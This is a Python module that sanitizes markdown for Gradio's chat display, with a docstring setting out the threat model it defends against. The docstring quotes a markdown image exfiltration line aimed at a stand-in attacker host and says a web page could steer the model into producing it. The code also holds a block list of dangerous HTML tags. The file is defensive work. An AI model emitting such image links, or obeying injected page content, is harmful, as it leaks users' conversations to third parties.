"""Chat text (answers, user messages, web-search steps) made safe to show in Gradio's Chatbot.

Gradio 6.31 renders a chat message in the browser: it cuts LaTeX spans out of the raw text
with a regex, runs `marked` over the rest, and passes the HTML through a permissive
sanitizer that keeps `<img>`, `<form>`, `<input>`, `style="…"`, `<video>`, `srcset`… So a
model (or a web page that steers it) could make every viewer's browser fetch a URL —
`![](https://attacker.example/?q=<the conversation>)` is a known exfiltration channel for
chat UIs — or draw a phishing form over the chat.

`sanitize_markdown` rewrites the markdown *source* so that whatever marked renders is inert:

- raw HTML outside code becomes text (`<` → `&lt;`), except a few attribute-free inline
  tags (`<br>`, `<sub>`, …) where they cannot open an HTML block;
- markdown images (inline and reference style) become links ("image: alt (host)") unless
  the host is allow-listed (config `render.image_hosts`);
- link targets keep http(s), mailto and relative URLs only;
- fenced code blocks stay verbatim, so HTML asked for as code is shown as written — but
  only fences that marked *certainly* reads as code (see `_split_code`); anything else
  is treated as prose, which at worst shows an escape inside a code block;
- an inline code span whose text would need escaping becomes `<code>` with entity-escaped
  text: it looks the same, and is inert even where marked would not read a code span;
- ```` ```mermaid ```` blocks are shown as code (Gradio inserts their text as raw HTML).

LaTeX spans are found exactly as Gradio finds them (same regexes, same order) and left
alone: Gradio HTML-escapes them when it puts them back.

The Content-Security-Policy sent by server.py is the second line of defence (a miss still
loads nothing remote) and the Chatbot's `allow_tags` the third (see safe_chatbot.py).
"""

from __future__ import annotations

import html as _html
import re
from collections.abc import Iterable
from functools import lru_cache
from urllib.parse import urlsplit

__all__ = ["LATEX_DELIMITERS", "sanitize_markdown", "sanitize_message", "host_allowed",
           "valid_host_pattern", "BLOCKED_TAGS", "INLINE_DATA_IMAGES"]

# The Chatbot's LaTeX delimiters. The sanitizer must cut math exactly where the browser
# does, so safe_chatbot.py passes the component's own list; this is the app's default.
LATEX_DELIMITERS = [
    {"left": "$$", "right": "$$", "display": True},
    {"left": "$", "right": "$", "display": False},
    {"left": "\\(", "right": "\\)", "display": False},
    {"left": "\\[", "right": "\\]", "display": True},
]

# Tags the browser-side layer shows as text should one ever reach the HTML (Gradio's
# `allow_tags` escapes the listed tags in the rendered HTML). Not "button"/"svg": Gradio's
# code-block copy button is made of them; not "input": marked's task-list checkboxes are.
BLOCKED_TAGS = ["img", "picture", "source", "video", "audio", "track", "iframe", "frame",
                "frameset", "object", "embed", "applet", "portal", "fencedframe", "link",
                "meta", "base", "style", "form", "textarea", "select", "image", "feimage",
                "use", "bgsound", "marquee"]

SAFE_SCHEMES = {"http", "https", "mailto"}
# Harmless without attributes; kept so that e.g. "H<sub>2</sub>O" and "a<br>b" in tables look
# as intended. Never at the start of an otherwise empty line: there a tag opens an HTML block,
# which would change what marked treats as code below it.
INLINE_TAGS = ("br", "b", "i", "u", "s", "em", "strong", "sub", "sup", "kbd", "mark",
               "small", "del", "ins", "code")

_NUL = "\x00"
_FENCE_OPEN = re.compile(r"( *)(`{3,}|~{3,})(.*)")
_LIST_ITEM = re.compile(r"( {0,3})([-+*]|(\d{1,9})[.)])( +)(\S.*)")
_HR = re.compile(r" {0,3}(?:(?:\*[ \t]*){3,}|(?:-[ \t]*){3,}|(?:_[ \t]*){3,})")
_MERMAID = re.compile(r"```mermaid(?=\s*\n)")  # Gradio's mermaid extension: raw HTML
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_SPECIAL = re.compile(r"[\\`!\[<\n]")
_AUTOLINK = re.compile(r"<(?:https?|mailto):[^\s<>]*>", re.IGNORECASE)
_INLINE_TAG = re.compile(r"</?(?:%s)\s*/?>" % "|".join(INLINE_TAGS), re.IGNORECASE)
_TAG_START = re.compile(r"<[A-Za-z/!?]")
_DEF = re.compile(r" {0,3}\[((?:[^\[\]\\\n]|\\.){1,999})\]:[ \t]*(<[^<>\n]*>|[^\s<>]\S*)"
                  r"((?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*)$", re.MULTILINE)
_MARKER_CHARS = " \t>-*+0123456789.)"
_ASCII_PUNCT = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_CODE_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "`": "&#96;", "*": "&#42;",
                  "_": "&#95;", "[": "&#91;", "]": "&#93;", "\\": "&#92;", "~": "&#126;",
                  "!": "&#33;", "|": "&#124;", ":": "&#58;", "@": "&#64;", "\n": " "}
_BRACKET_TOKENS = re.compile(r"\\.|\[|\]|\n[ \t]*\n", re.DOTALL)
_BACKTICKS = re.compile(r"`+")
_MAX_LINK = 2000
# An unbracketed link destination: no spaces or controls, parentheses balanced (two deep).
_DEST_CHAR = r"(?:[^\s\x00-\x1f()\\]|\\[^\s\x00-\x1f])"
_DEST = re.compile(r"(?:%s|\((?:%s|\((?:%s)*\))*\))*" % (_DEST_CHAR, _DEST_CHAR, _DEST_CHAR),
                   re.DOTALL)  # characters a link destination or title may span


# ------------------------------------------------------------------ public API

def sanitize_markdown(text: str, image_hosts: Iterable[str] = (),
                      latex_delimiters: list[dict] | None = None) -> str:
    """Markdown that renders in the Chatbot without loading anything remote, without raw
    HTML, forms or inline styles. Idempotent, so sanitizing twice is harmless."""
    if not text:
        return text or ""
    delims = tuple((d["left"], d["right"]) for d in (latex_delimiters or LATEX_DELIMITERS))
    return _sanitize(text, tuple(sorted({h.strip().lower() for h in image_hosts if h})),
                     delims)


def sanitize_message(message, image_hosts: Iterable[str] = (),
                     latex_delimiters: list[dict] | None = None):
    """A copy of one chat message (dict or object with .content/.metadata) with its text
    and its step title sanitized; files and components pass unchanged."""
    def clean(s):
        return sanitize_markdown(s, image_hosts, latex_delimiters) if isinstance(s, str) else s

    def clean_content(c):
        if isinstance(c, str):
            return clean(c)
        if isinstance(c, list):
            return [clean_part(p) for p in c]
        return c

    def clean_part(p):
        if isinstance(p, str):
            return clean(p)
        if isinstance(p, dict) and p.get("type") == "text":
            return {**p, "text": clean(p.get("text"))}
        if getattr(p, "type", None) == "text" and hasattr(p, "model_copy"):
            return p.model_copy(update={"text": clean(p.text)})
        return p

    def clean_meta(meta):
        if isinstance(meta, dict) and isinstance(meta.get("title"), str):
            return {**meta, "title": clean(meta["title"])}
        return meta

    if isinstance(message, dict):
        out = {**message, "content": clean_content(message.get("content"))}
        if "metadata" in message:
            out["metadata"] = clean_meta(message["metadata"])
        return out
    if hasattr(message, "model_copy"):  # gradio's pydantic Message
        return message.model_copy(update={"content": clean_content(message.content),
                                          "metadata": clean_meta(message.metadata)})
    if hasattr(message, "content"):  # gr.ChatMessage (a dataclass)
        import dataclasses

        if dataclasses.is_dataclass(message):
            return dataclasses.replace(message, content=clean_content(message.content),
                                       metadata=clean_meta(message.metadata))
    return message


def valid_host_pattern(host: str) -> bool:
    """"example.org" or "*.example.org" (lower case, no scheme, port or path)."""
    label = r"[a-z0-9]([a-z0-9-]*[a-z0-9])?"
    return bool(re.fullmatch(rf"(\*\.)?{label}(\.{label})*", host))


# Not a host: a marker in `image_hosts` (never valid in config) that also lets inline
# `data:image/…;base64,…` images show. safe_chatbot.py adds it for the user's own messages,
# where the app puts the previews of images attached to a message: a data URL loads nothing
# from anywhere, and only raster types with a plain base64 body qualify (no SVG).
INLINE_DATA_IMAGES = "data:image"
_DATA_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}")


def host_allowed(url: str, image_hosts: Iterable[str]) -> bool:
    """Whether an image URL may load inline: https and an allow-listed host (or, with
    `INLINE_DATA_IMAGES` among the hosts, a base64 raster data URL)."""
    if INLINE_DATA_IMAGES in image_hosts and url.startswith("data:"):
        return _DATA_IMAGE.fullmatch(url) is not None
    try:
        parts = urlsplit(_clean_url(url))
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if parts.scheme != "https" or not host:
        return False
    for pattern in image_hosts:
        if pattern.startswith("*."):
            if host.endswith(pattern[1:]):
                return True
        elif host == pattern:
            return True
    return False


# ------------------------------------------------------------------ the pipeline

@lru_cache(maxsize=2048)  # every streamed update re-sends the whole chat: earlier turns hit
def _sanitize(text: str, hosts: tuple[str, ...], delims: tuple[tuple[str, str], ...]) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace(_NUL, "")
    body, maths = _cut_math(text, delims)
    body = _MERMAID.sub("```mermaid-code", body)
    parts = _split_code(body, tuple(left for left, _ in delims))
    defs = _definitions(p for kind, p in parts if kind == "prose")
    ctx = _Ctx(hosts, defs)
    out = "\n".join(_fence(p) if kind == "code" else _prose(p, ctx) for kind, p in parts)
    return re.sub(_NUL + r"(\d+)" + _NUL, lambda m: maths[int(m.group(1))], out)


def _cut_math(text: str, delims) -> tuple[str, list[str]]:
    """Replace LaTeX spans by placeholders, exactly as Gradio's frontend does (one global
    lazy regex per delimiter pair, in order), so code and prose are judged on what marked
    will actually see."""
    maths: list[str] = []

    def keep(m: re.Match) -> str:
        maths.append(m.group(0))
        return f"{_NUL}{len(maths) - 1}{_NUL}"

    for left, right in delims:
        text = re.sub(re.escape(left) + r"([\s\S]+?)" + re.escape(right), keep, text)
    return text, maths


def _indent(line: str) -> int:
    return len(line) - len(line.lstrip(" "))


def _is_blank(line: str) -> bool:
    return not line.strip(" \t")  # never more than marked calls blank


def _closes(line: str, fence: str) -> bool:
    # A superset of what marked and CommonMark accept as a closing fence: we end code no
    # later than the browser does.
    t = line.strip(" \t")
    return t.startswith(fence) and not t.strip("`~")


def _certainly_closes(line: str, fence: str, limit: int) -> bool:
    """What marked 12 takes as the closing fence (` {0,3}` + fence + [~`]* + spaces)."""
    return _indent(line) <= limit and re.fullmatch(
        r" *" + re.escape(fence) + r"[~`]* *", line) is not None


def _split_code(text: str, math_starts: tuple[str, ...] = ()) -> list[tuple[str, str]]:
    """("code", …) for fenced blocks marked certainly renders as code, ("prose", …) for the
    rest. Being wrong one way only costs looks (an escape shown inside code); the other
    way would let HTML through, so every rule errs towards prose:
    - an opening fence counts if indented ≤ 3 spaces (it then interrupts anything), or if it
      sits in a list item whose marker line is certainly a list item; not if it is the last
      line, nor if it carries an unmatched LaTeX opener: Gradio's LaTeX extension cuts the
      paragraph there, and a fence without its newline does not interrupt a paragraph; a
      fence-like line we cannot place also ends trust;
    - its code ends at a closing fence, or at a line indented less than the fence (where a
      list item may end); after such an early end, or a closing fence marked might not take
      as one, we no longer know where marked thinks code is, so the rest of the text is prose.
    """
    lines = text.split("\n")
    parts: list[tuple[str, list[str]]] = []
    trusted = True
    marker: tuple[int, bool] | None = None  # (content offset, certain) of the last list item
    prev_blank, prev_certain_marker = True, False
    i = 0
    while i < len(lines):
        line = lines[i]
        # (While an answer streams, its newest line is prose: see the docstring.)
        m = _FENCE_OPEN.fullmatch(line) if trusted and i + 1 < len(lines) else None
        if m and not (m.group(2)[0] == "`" and "`" in m.group(3)):
            k = len(m.group(1))
            in_item = bool(marker and marker[1] and marker[0] <= k <= marker[0] + 3)
            if (k <= 3 or in_item) and not any(d in m.group(3) for d in math_starts):
                fence, j, closed = m.group(2), i + 1, False
                limit = marker[0] + 3 if k > 3 else 3  # deepest closing fence marked accepts
                while j < len(lines):
                    if _is_blank(lines[j]):
                        j += 1
                        continue
                    if _indent(lines[j]) < k:
                        break
                    j += 1
                    if _closes(lines[j - 1], fence):
                        closed = _certainly_closes(lines[j - 1], fence, limit)
                        break
                if not closed and j < len(lines):
                    trusted = False
                parts.append(("code", lines[i:j]))
                i, marker, prev_blank, prev_certain_marker = j, None, False, False
                continue
            trusted = False  # marked may see a fence here that we cannot place
        if parts and parts[-1][0] == "prose":
            parts[-1][1].append(line)
        else:
            parts.append(("prose", [line]))
        i += 1
        if _is_blank(line):
            prev_blank = True
            continue
        li = _LIST_ITEM.fullmatch(line)
        if li and not _HR.fullmatch(line):
            spaces = len(li.group(4))
            offset = len(li.group(1)) + len(li.group(2)) + (spaces if spaces <= 4 else 1)
            # A bullet or "1." always starts an item; another number only after a blank line
            # or another item (it cannot interrupt a paragraph).
            certain = li.group(3) is None or li.group(3) == "1" or prev_blank \
                or prev_certain_marker
            marker, prev_certain_marker = (offset, certain), certain
        else:
            marker, prev_certain_marker = None, False
        prev_blank = False
    return [(kind, "\n".join(ls)) for kind, ls in parts]


def _fence(block: str) -> str:
    """A code block stays verbatim; only its info string (never shown) loses `<`."""
    first, sep, rest = block.partition("\n")
    m = _FENCE_OPEN.fullmatch(first)
    if m:
        first = m.group(1) + m.group(2) + m.group(3).replace("<", "&lt;")
    return first + sep + rest


def _norm_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _definitions(prose_parts: Iterable[str]) -> dict[str, str]:
    defs: dict[str, str] = {}
    for part in prose_parts:
        for line in part.split("\n"):
            m = _DEF.fullmatch(line)
            if m:
                dest = m.group(2)
                defs.setdefault(_norm_label(m.group(1)), dest[1:-1] if dest.startswith("<")
                                else dest)
    return defs


class _Ctx:
    def __init__(self, hosts: tuple[str, ...], defs: dict[str, str]):
        self.hosts, self.defs = hosts, defs


def _clean_url(url: str) -> str:
    # What a browser makes of it: entities decoded, tabs/newlines/controls dropped.
    url = _html.unescape(url)
    return re.sub(r"[\x00-\x20\x7f]", "", url)


def _safe_url(url: str) -> bool:
    m = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", _clean_url(url))
    return m is None or m.group(1).lower() in SAFE_SCHEMES


def _dest_out(dest: str, bracketed: bool) -> str:
    """A link destination with nothing that could read as HTML should marked disagree that
    it is a destination."""
    dest = dest.replace("<", "%3C").replace(">", "%3E")
    if bracketed:
        dest = dest.replace(" ", "%20").replace("(", "%28").replace(")", "%29")
    return dest


def _escape_text(s: str) -> str:
    return _TAG_START.sub(lambda m: "&lt;" + m.group(0)[1:], s)


def _brackets(s: str) -> dict[int, int]:
    """Matching `]` for each `[` (escapes skipped), in one pass."""
    pairs: dict[int, int] = {}
    stack: list[int] = []
    for m in _BRACKET_TOKENS.finditer(s):
        c = m.group(0)
        if c == "[":
            stack.append(m.start())
        elif c == "]":
            if stack:
                pairs[stack.pop()] = m.start()
        elif c[0] == "\n":
            stack.clear()  # brackets never pair across a paragraph break
    return pairs


def _skip_ws(s: str, k: int) -> int:
    n, newline = len(s), False
    while k < n and s[k] in " \t\n":
        if s[k] == "\n":
            if newline:
                break
            newline = True
        k += 1
    return k


def _link_tail(s: str, j: int):
    """Parse `(dest "title")` starting at s[j] == "(": (dest, bracketed, title, end) or None."""
    n = min(len(s), j + _MAX_LINK)
    k = _skip_ws(s, j + 1)
    if k < n and s[k] == "<":
        e = k + 1
        while e < n and s[e] not in "<>\n":
            e += 2 if s[e] == "\\" else 1
        if e >= n or s[e] != ">":
            return None
        dest, bracketed, k = s[k + 1:e], True, e + 1
    else:
        start = k
        k = _DEST.match(s, k, n).end()
        dest, bracketed = s[start:k], False
    title = ""
    t = _skip_ws(s, k)
    if t < n and t > k and s[t] in "\"'(":
        close = ")" if s[t] == "(" else s[t]
        e = t + 1
        while e < n and s[e] != close:
            e += 2 if s[e] == "\\" else 1
        if e >= n:
            return None
        title, k = s[t:e + 1], _skip_ws(s, e + 1)
    else:
        k = t
    if k < n and s[k] == ")":
        return dest, bracketed, title, k + 1
    return None


def _image_label(alt: str, url: str) -> str:
    parts = urlsplit(_clean_url(url)) if url else None
    host = (parts.hostname or "") if parts else ""
    if alt.strip():
        return f"image: {alt}" + (f" ({host})" if host else "")
    where = host + (parts.path if parts else "")
    where = where if len(where) <= 60 else where[:59] + "…"
    return "image: " + (where.replace("[", "\\[").replace("]", "\\]") or "link")


def _code_span(s: str, i: int, ctx: _Ctx):
    """(replacement, end) for a code span starting at s[i], or None if none starts there."""
    n = _BACKTICKS.match(s, i).end()
    para = _BLANK_LINE.search(s, n)
    limit = para.start() if para else len(s)
    m = _closing_run(n - i).search(s, n, limit)
    if not m:
        return None
    content = s[n:m.start()]
    if _prose(content, ctx) == content:
        return s[i:m.end()], m.end()  # nothing in it would change: leave it as written
    shown = content.replace("\n", " ")
    if len(shown) > 1 and shown[0] == shown[-1] == " " and shown.strip(" "):
        shown = shown[1:-1]
    return "<code>" + "".join(_CODE_ENTITIES.get(c, c) for c in shown) + "</code>", m.end()


@lru_cache(maxsize=64)
def _closing_run(length: int) -> re.Pattern:
    return re.compile(r"(?<!`)`{%d}(?!`)" % length)


def _line_has_other_text(s: str, start: int, end: int) -> bool:
    ls = s.rfind("\n", 0, start) + 1
    le = s.find("\n", end)
    le = len(s) if le < 0 else le
    rest = (s[ls:start] + s[end:le]).strip(_MARKER_CHARS)
    return bool(rest)


def _prose(s: str, ctx: _Ctx) -> str:
    """Inline rewriting of markdown outside code: see the module docstring."""
    out: list[str] = []
    pairs = _brackets(s)
    i, n = 0, len(s)
    at_line_start = True
    while i < n:
        if at_line_start:
            at_line_start = False
            m = _DEF.match(s, i)  # a reference definition: `[label]: dest "title"`
            if m:
                label, dest, rest = m.group(1), m.group(2), m.group(3)
                bracketed = dest.startswith("<")
                raw = dest[1:-1] if bracketed else dest
                dest_out = _dest_out(raw, bracketed) if _safe_url(raw) else "#"
                out.append(f"{s[i:m.start(1)]}{_escape_text(label)}]: {dest_out}"
                           f"{_escape_text(rest)}")
                i = m.end()
                continue
        m = _SPECIAL.search(s, i)
        if not m:
            out.append(s[i:])
            break
        j = m.start()
        out.append(s[i:j])
        c = s[j]
        if c == "\n":
            out.append(c)
            i, at_line_start = j + 1, True
        elif c == "\\":
            if j + 1 < n and s[j + 1] == "<":
                # Not "\<": a bare URL just before (GFM autolink) swallows the backslash.
                out.append("&lt;")
                i = j + 2
            elif j + 1 < n and s[j + 1] in _ASCII_PUNCT:
                out.append(s[j:j + 2])
                i = j + 2
            else:
                out.append(c)
                i = j + 1
        elif c == "`":
            span = _code_span(s, j, ctx)
            if span:
                out.append(span[0])
                i = span[1]
            else:
                i = _BACKTICKS.match(s, j).end()
                out.append(s[j:i])
        elif c == "<":
            a = _AUTOLINK.match(s, j)
            t = _INLINE_TAG.match(s, j)
            if a:
                out.append(a.group(0))
                i = a.end()
            elif t and _line_has_other_text(s, j, t.end()):
                out.append(t.group(0))
                i = t.end()
            elif _TAG_START.match(s, j):
                out.append("&lt;")
                i = j + 1
            else:
                out.append(c)
                i = j + 1
        elif c == "!":
            if j + 1 < n and s[j + 1] == "[":
                text, i = _image(s, j, pairs, ctx)
                out.append(text)
            else:
                out.append(c)
                i = j + 1
        else:  # "["
            e = pairs.get(j)
            tail = _link_tail(s, e + 1) if e is not None and e + 1 < n and s[e + 1] == "(" \
                else None
            if tail is None:
                out.append(c)
                i = j + 1
                continue
            dest, bracketed, title, end = tail
            label = _prose(s[j + 1:e], ctx)
            if _safe_url(dest):
                out.append(f"[{label}]({_dest_out(dest, bracketed)}"
                           f"{' ' + _escape_text(title) if title else ''})")
            else:
                out.append(label)  # javascript:, data:, … : the text without the link
            i = end
    return "".join(out)


def _image(s: str, j: int, pairs: dict[int, int], ctx: _Ctx) -> tuple[str, int]:
    """(rewritten text, end) for the image starting at s[j] == "!" (s[j+1] == "[")."""
    e = pairs.get(j + 1)
    n = len(s)
    if e is not None:
        alt = s[j + 2:e]
        if e + 1 < n and s[e + 1] == "(":
            tail = _link_tail(s, e + 1)
            if tail:
                dest, bracketed, title, end = tail
                label = _prose(alt, ctx)
                t = " " + _escape_text(title) if title else ""
                if host_allowed(dest, ctx.hosts):
                    return f"![{label}]({_dest_out(dest, bracketed)}{t})", end
                if not _safe_url(dest):
                    return _image_label(label, ""), end
                return f"[{_image_label(label, dest)}]({_dest_out(dest, bracketed)}{t})", end
        # reference style: ![alt][ref], ![alt][], ![alt]
        ref, end = alt, e + 1
        if e + 1 < n and s[e + 1] == "[":
            f = s.find("]", e + 2)
            if f >= 0 and "[" not in s[e + 2:f]:
                ref, end = (s[e + 2:f] or alt), f + 1
        dest = ctx.defs.get(_norm_label(ref))
        if dest is not None and host_allowed(dest, ctx.hosts):
            return "![" + _prose(alt, ctx) + "]" + s[e + 1:end], end
    # Not an allowed image: escape the "!" so the rest reads as a link or as text.
    return "\\!", j + 1
